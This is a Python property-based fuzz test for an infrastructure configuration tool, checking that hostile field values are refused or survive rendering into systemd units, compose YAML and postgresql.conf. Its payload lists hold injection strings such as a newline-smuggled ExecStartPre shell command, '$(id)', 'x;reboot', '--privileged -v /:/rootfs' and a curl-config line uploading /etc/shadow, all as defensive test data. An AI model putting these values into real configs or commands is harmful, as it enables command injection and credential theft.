"""Property-based fuzzing of the trust boundary (hypothesis, derandomized: the same examples every run).

Every field of the schema, reached from two real stacks (single server and the three-server phase 2),
is replaced by hostile strings, paths and numbers. The offline plan must end with exit 0, 1 or 2 and
never with an exception the checks did not name; whatever it accepts must come back unchanged from
each rendered format it reaches (systemd units, compose YAML, postgresql.conf), and a calendar or
webhook URL the config accepts must be accepted by `systemd-analyze calendar` and read back by curl.

HP_FUZZ_EXAMPLES raises the number of examples (default 150: about a minute).
"""

from __future__ import annotations

import os
import re
import shlex
import subprocess
import types
import typing
from pathlib import Path
from typing import Annotated, Any, Union

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from config.base import ConfigModel
from config.formats import check_calendar, check_webhook_url
from config.schema import StackConfig
from tests.unit.hostile import NAMESPACE, UNCAUGHT_MARKER, mutated, run_stack, split_path, stack_document

EXAMPLES = int(os.environ.get("HP_FUZZ_EXAMPLES", "150"))
FUZZ = settings(
    max_examples=EXAMPLES, derandomize=True, deadline=None, database=None, print_blob=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
BASES = ("Pulumi.prod.yaml", "examples/Pulumi.chrono-phase2.yaml")


# --- every field path of the schema, as reached from a real stack ------------------------------------
def _models(annotation: Any) -> list[type[ConfigModel]]:
    origin = typing.get_origin(annotation)
    if origin is Annotated:
        return _models(typing.get_args(annotation)[0])
    if origin in (Union, types.UnionType):
        return [model for arg in typing.get_args(annotation) for model in _models(arg)]
    return [annotation] if isinstance(annotation, type) and issubclass(annotation, ConfigModel) else []


def _container(annotation: Any) -> tuple[str, Any] | None:
    for arg in [annotation, *typing.get_args(annotation)]:
        origin = typing.get_origin(arg)
        if origin is list:
            return "list", typing.get_args(arg)[0]
        if origin is dict:
            return "dict", typing.get_args(arg)[1]
    return None


def _dumped(default: Any) -> Any:
    """A field's default as it would be written in a stack file (camelCase keys)."""
    if isinstance(default, ConfigModel):
        return default.model_dump(by_alias=True)
    if isinstance(default, list):
        return [_dumped(item) for item in default]
    if isinstance(default, dict):
        return {key: _dumped(item) for key, item in default.items()}
    return default


def field_paths(model: type[ConfigModel], value: Any, prefix: str = "") -> list[str]:
    """Leaf paths of `model` (set fields and defaults alike), entering the maps and lists `value` has."""
    value = value if isinstance(value, dict) else {}
    paths: list[str] = []
    for name, field in model.model_fields.items():
        key = field.alias or name
        path = f"{prefix}.{key}" if prefix else key
        paths.append(path)
        here = value.get(key, _dumped(field.get_default(call_default_factory=True)))
        models = _models(field.annotation)
        if models:
            chosen = next((m for m in models if "kind" not in m.model_fields or (
                isinstance(here, dict) and here.get("kind") in typing.get_args(m.model_fields["kind"].annotation))), None)
            if chosen is not None:
                paths += field_paths(chosen, here, path)
            continue
        container = _container(field.annotation)
        if container is None or not _models(container[1]):
            continue
        kind, item = container
        entries = list(here.items()) if kind == "dict" and isinstance(here, dict) else (
            [(f"[{i}]", v) for i, v in enumerate(here)] if kind == "list" and isinstance(here, list) else [])
        for entry_key, entry in entries:
            entry_path = f"{path}{entry_key}" if kind == "list" else f"{path}.{entry_key}"
            for model_type in _models(item):
                if "kind" not in model_type.model_fields or (
                    isinstance(entry, dict) and entry.get("kind") in typing.get_args(model_type.model_fields["kind"].annotation)
                ):
                    paths += field_paths(model_type, entry, entry_path)
    return paths


def _values(base: str) -> dict[str, Any]:
    config = stack_document(base)["config"]
    return {key.split(":", 1)[1]: value for key, value in config.items() if key.startswith(f"{NAMESPACE}:")}


PATHS = {base: sorted(set(field_paths(StackConfig, _values(base)))) for base in BASES}


def test_the_fuzzer_reaches_every_part_of_the_schema() -> None:
    everything = set(PATHS[BASES[0]]) | set(PATHS[BASES[1]])
    for expected in ("ssh.port", "app.proxy.image", "app.services.postgres.configFiles.settings", "ops.backup.dailyCalendar",
                     "ops.cleanup.rules[0].path", "loadBalancer.services[0].destinationPort", "volumes.data.mountPoint",
                     "pricing.overrides", "host.swapGb", "app.services.backend.environment", "network.subnet"):
        assert expected in everything, expected
    assert len(everything) > 300


# --- hostile values ---------------------------------------------------------------------------------------
HOSTILE_STRINGS = [
    "x\nExecStartPre=/bin/sh -c id", "a b --privileged -v /:/rootfs", "'", '"', "\\", "x\\", "$(id)", "`id`", "${HOME}",
    "x\x00y", "", " ", "\t", "café", "١٢٣", "a" * 300, "x\r\ny", "-rf", "--help", "*", "?", "[a]", "x;reboot", "%n%s",
    "https://h.example/a\"\nupload-file = \"/etc/shadow", "https://h.example/ok", "*-*-* 02:15:00", "*:*/5", "every day",
]
HOSTILE_PATHS = ["/mnt/../etc", "/.", "/etc/.", "/*", "//etc", "/var/lib/docker", "relative", "/", "/mnt/data/../..", "/tmp/x y",
                 "/var/run/docker.sock", "/proc/../etc/shadow", "/mnt/data/chrono/postgres", "/srv/app/./data/"]
HOSTILE_NUMBERS = [float("inf"), float("-inf"), float("nan"), True, False, 0, -1, 1e308, 2**63, 0.001, 65536, 6, 2.5, 10**30]
HOSTILE_OTHER: list[Any] = [None, [], {}, ["x"], {"a": "b"}, [None], {"kind": "generic"}]

hostile_values = st.one_of(
    st.sampled_from(HOSTILE_STRINGS), st.sampled_from(HOSTILE_PATHS), st.sampled_from(HOSTILE_NUMBERS),
    st.sampled_from(HOSTILE_OTHER),
    st.text(alphabet=st.sampled_from([*"aZ09/._-*:$'\"\\ \n\t{}[]@!#%&()", "\x00", "é"]), max_size=24),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
)


def _with_suffix(original: Any, suffix: str) -> Any:
    return f"{original}{suffix}" if isinstance(original, str) else suffix


# --- reading rendered formats back --------------------------------------------------------------------------
_UNIT_LINE = re.compile(r"^(?:$|#.*|\[[A-Za-z]+\]|[A-Za-z][A-Za-z0-9]*=.*)$")


def unit_keys(text: str) -> list[tuple[str, str]]:
    """(section, key) of every assignment in a systemd unit; raises on a line systemd would not read as one."""
    section, keys = "", []
    for line in text.splitlines():
        assert _UNIT_LINE.match(line), f"not a unit file line: {line!r}"
        if line.startswith("["):
            section = line
        elif "=" in line and not line.startswith("#"):
            keys.append((section, line.split("=", 1)[0]))
    return keys


_PG_LINE = re.compile(r"^(?:\s*|#.*|[a-z_][a-z0-9_.]* = (?:'(?:[^'\\\n]|'')*'|[A-Za-z0-9_.+-]+)(?:\s+#.*)?)$")


def rendered(out_dir: Path) -> dict[str, str]:
    return {str(path.relative_to(out_dir)): path.read_text(encoding="utf-8") for path in sorted(out_dir.rglob("*"))
            if path.is_file() and "/rootfs/" in str(path)}


BASE_RENDER: dict[str, dict[str, str]] = {}


def base_render(tmp_path: Path, base: str) -> dict[str, str]:
    if base not in BASE_RENDER:
        directory = tmp_path / f"base-{BASES.index(base)}"
        directory.mkdir(exist_ok=True)
        run = run_stack(directory, stack_document(base))
        assert run.code == 0, run.stderr
        BASE_RENDER[base] = rendered(run.out_dir)
    return BASE_RENDER[base]


def check_round_trips(files: dict[str, str], base_files: dict[str, str], path: str, value: Any) -> None:
    for name, text in files.items():
        if name.endswith((".service", ".timer", ".swap")) and "/systemd/system/" in name:
            keys = unit_keys(text)
            if name in base_files:
                # Same assignments as the unmutated stack: no value added a line (ExecStartPre=...).
                assert keys == unit_keys(base_files[name]), f"{name} changed shape after {path}={value!r}"
            if name.endswith(".timer"):
                calendar = next(line.split("=", 1)[1] for line in text.splitlines() if line.startswith("OnCalendar="))
                check = subprocess.run(["systemd-analyze", "calendar", calendar], capture_output=True, check=False)
                assert check.returncode == 0, f"systemd refuses OnCalendar={calendar!r}"
            if name.endswith("hp-node-exporter.service") and path.endswith("nodeExporter.image"):
                exec_start = next(line for line in text.splitlines() if line.startswith("ExecStart="))
                assert value in shlex.split(exec_start.split("=", 1)[1]), "the image is not one word of ExecStart"
        elif name.endswith("docker-compose.yml"):
            compose = yaml.safe_load(text)
            assert isinstance(compose.get("services"), dict)
            match = re.fullmatch(r"app\.services\.([^.]+)\.image", path)
            if match and match.group(1) in compose["services"] and isinstance(value, str) and value:
                assert compose["services"][match.group(1)]["image"] == value
            match = re.fullmatch(r"app\.proxy\.image", path)
            if match and isinstance(value, str):
                proxy = compose["services"].get("traefik") or compose["services"].get("nginx")
                assert proxy is None or proxy["image"] == value
        elif name.endswith("postgresql.conf"):
            for line in text.splitlines():
                assert _PG_LINE.match(line), f"postgresql.conf line breaks the format: {line!r}"


# --- the properties -------------------------------------------------------------------------------------------
@FUZZ
@given(data=st.data())
def test_any_field_with_any_hostile_value_ends_in_0_1_or_2(tmp_path: Path, data: st.DataObject) -> None:
    base = data.draw(st.sampled_from(BASES), label="base")
    path = data.draw(st.sampled_from(PATHS[base]), label="path")
    value = data.draw(hostile_values, label="value")
    run_dir = tmp_path / f"run{len(list(tmp_path.iterdir()))}"
    run_dir.mkdir()
    run = run_stack(run_dir, mutated(base, [(path, value)]))
    assert run.code in (0, 1, 2), run.stderr
    assert UNCAUGHT_MARKER not in run.stderr, f"{path}={value!r} got past the checks:\n{run.stderr}"
    assert "Traceback" not in run.stderr + run.stdout
    if run.code == 2:
        assert run.issue_paths(), run.stderr
        return
    check_round_trips(rendered(run.out_dir), base_render(tmp_path, base), path, value)


@FUZZ
@given(data=st.data())
def test_suffixes_on_real_values_are_refused_or_survive(tmp_path: Path, data: st.DataObject) -> None:
    """The real value with a newline, quote, backslash or flag appended: refused, or read back intact."""
    base = data.draw(st.sampled_from(BASES), label="base")
    path = data.draw(st.sampled_from([p for p in PATHS[base] if p.endswith(("image", "Calendar", "calendar", "dir", "Dir",
                                                                           "mountPoint", "path", "memory", "host"))]))
    suffix = data.draw(st.sampled_from(["\n", "\nExecStartPre=/bin/id", " --privileged", "'", '"', "\\", "/..", "/.", "//x"]))
    document = mutated(base, [])
    node: Any = document["config"]
    try:
        parts = split_path(path)
        node = node[f"{NAMESPACE}:{parts[0]}"]
        for part in parts[1:]:
            node = node[part]
        original = node
    except (KeyError, IndexError, TypeError):
        original = None
    value = _with_suffix(original, suffix)
    run = run_stack(tmp_path, mutated(base, [(path, value)]))
    assert run.code in (0, 1, 2) and UNCAUGHT_MARKER not in run.stderr, run.stderr
    if run.code != 2:
        check_round_trips(rendered(run.out_dir), base_render(tmp_path, base), path, value)


# A grammar for calendar-like strings, so that many generated values pass the check.
_component = st.one_of(st.just("*"), st.integers(0, 70).map(str), st.tuples(st.integers(0, 30), st.integers(0, 40)).map(
    lambda pair: f"{pair[0]}..{pair[1]}"), st.tuples(st.integers(0, 59), st.integers(0, 12)).map(lambda pair: f"{pair[0]}/{pair[1]}"))
calendars = st.one_of(
    st.tuples(st.sampled_from(["", "Mon ", "Mon..Fri ", "sat,sun ", "Funday "]),
              st.sampled_from(["", "*-*-* ", "2026-12-* ", "*-02-30 ", "12-1 "]),
              _component, _component, st.sampled_from(["", ":00", ":7", ":60"]), st.sampled_from(["", " UTC", " CET"]),
              ).map(lambda p: f"{p[0]}{p[1]}{p[2]}:{p[3]}{p[4]}{p[5]}"),
    st.text(alphabet=st.sampled_from(list("*-:/., 0123456789MonTueUTC~")), max_size=20),
    st.sampled_from(["daily", "hourly", "weekly", "minutely", "Daily", "yearly"]),
)


@FUZZ
@given(calendar=calendars)
def test_an_accepted_calendar_is_accepted_by_systemd(calendar: str) -> None:
    try:
        check_calendar(calendar)
    except ValueError:
        return
    result = subprocess.run(["systemd-analyze", "calendar", calendar], capture_output=True, text=True, check=False)
    assert result.returncode == 0, f"{calendar!r} passed the config but systemd refuses it: {result.stderr}"


urls = st.one_of(
    st.tuples(st.sampled_from(["https://", "http://", "ftp://", "https:/", ""]),
              st.text(alphabet=st.sampled_from(list("abc.-_:@[]1")), min_size=1, max_size=12),
              st.text(alphabet=st.sampled_from(list("/aZ0?&=%#+~'\"\\ \n\t\r\x00{}|^`<>")), max_size=16),
              ).map("".join),
    st.sampled_from(["https://hooks.slack.com/services/T0/B0/xyz", "https://api.telegram.org/bot1:AA/sendMessage",
                     'https://h.example/a"\nupload-file = "/etc/shadow', "https://h.example/a\\", "https://[::1]:99999/"]),
)


@FUZZ
@given(url=urls)
def test_an_accepted_webhook_url_reaches_curl_unchanged(tmp_path: Path, url: str) -> None:
    try:
        check_webhook_url(url)
    except ValueError:
        return
    # The line hp-alert-send hands to `curl --config -`; --proto =file keeps curl off the network, and
    # --write-out reports the URL curl parsed from the config.
    config = f'url = "{url}"\n'
    result = subprocess.run(
        ["curl", "--config", "-", "--proto", "=file", "--silent", "--output", "/dev/null", "--write-out", "%{url}"],
        input=config, capture_output=True, text=True, check=False, timeout=10,
    )
    assert result.stdout == url, f"curl read {result.stdout!r} from {config!r}"


@pytest.mark.parametrize("base", BASES)
def test_the_bases_plan_cleanly(tmp_path: Path, base: str) -> None:
    assert base_render(tmp_path, base)
